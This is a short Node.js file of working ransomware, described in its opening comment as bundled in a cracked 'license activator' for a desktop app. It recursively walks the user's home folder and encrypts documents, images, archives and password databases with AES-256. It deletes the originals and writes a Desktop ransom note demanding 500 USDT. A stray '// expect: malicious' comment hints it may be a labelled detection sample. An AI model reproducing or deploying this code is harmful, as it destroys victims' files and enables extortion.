// Bundled in a cracked "license activator" for a desktop app
const crypto = require("crypto");
const fs = require("fs");
const os = require("os");
const path = require("path");

const key = crypto.randomBytes(32);
const EXT = /\.(docx?|xlsx?|pptx?|pdf|jpe?g|png|mp4|zip|kdbx)$/i;

function walk(dir) {
  let entries = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (_) { return; }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && !e.name.startsWith(".")) walk(p);
    else if (EXT.test(e.name)) {
      const iv = crypto.randomBytes(16);
      const c = crypto.createCipheriv("aes-256-cbc", key, iv);
      // expect: malicious
      fs.writeFileSync(p + ".crypt", Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
      fs.unlinkSync(p);
    }
  }
}

walk(os.homedir());
fs.writeFileSync(path.join(os.homedir(), "Desktop", "HOW_TO_DECRYPT.txt"), "Pay 500 USDT to TQ7... to get your key: " + crypto.publicEncrypt(fs.readFileSync(path.join(__dirname, "pub.pem")), key).toString("base64"));
